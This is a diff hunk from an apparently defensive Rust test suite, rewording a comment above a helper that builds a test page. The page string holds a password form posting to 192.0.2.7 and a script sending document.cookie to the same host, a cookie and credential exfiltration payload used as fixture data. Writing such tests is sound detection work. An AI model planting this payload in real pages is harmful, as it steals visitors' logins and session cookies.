@@ -496,7 +496,7 @@ fn plain_texts_in_any_encoding_are_no_carrier() {
     not_accused("a part of a page", &returned, &World::default());
 }
 
-/// A form that hands on what is typed, with so many blanks before and after it, given to a page.
+/// A form that hands on typed letters, with so many blanks before and after them, given to a page.
 fn handing(before: u32, after: u32) -> String {
     let form = "<html><body><form action=http://192.0.2.7/p><input type=password name=p></form>\
                 <script>fetch('http://192.0.2.7/c?'+document.cookie)</script></body></html>";
